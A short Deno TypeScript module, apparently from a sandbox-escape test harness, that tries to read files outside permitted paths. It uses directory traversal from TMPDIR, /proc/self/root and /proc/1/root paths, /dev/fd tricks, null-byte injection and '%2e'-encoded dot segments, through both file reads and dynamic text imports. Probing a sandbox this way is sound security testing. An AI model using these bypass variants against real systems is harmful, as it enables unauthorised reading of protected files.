// Reaches files by paths that begin where it may read.
import { atEachTarget } from '../tries.ts';

const scratch = Deno.env.get('TMPDIR') ?? '/tmp';
const up = '../'.repeat(20);

export default (request: Request) =>
  atEachTarget(request, async (path) => {
    const paths = [
      `${scratch}/${up}${path}`,
      `${scratch}/./${up}/${path}`,
      `/proc/self/root${path}`,
      `/proc/self/cwd/${up}${path}`,
      `/proc/1/root${path}`,
      `/proc/thread-self/root${path}`,
      `/dev/fd/../../..${path}`,
      `${path}/`,
      `/${path}`,
      `${scratch}\0/${up}${path}`,
    ];
    return await Promise.any(
      paths.flatMap((each) => [
        Deno.readTextFile(each),
        import(`file://${each}`, { with: { type: 'text' } }).then((module) => module.default),
        import(`file://${each.replaceAll('/', '/%2e/')}`, { with: { type: 'text' } }).then(
          (module) => module.default,
        ),
      ]),
    );
  });
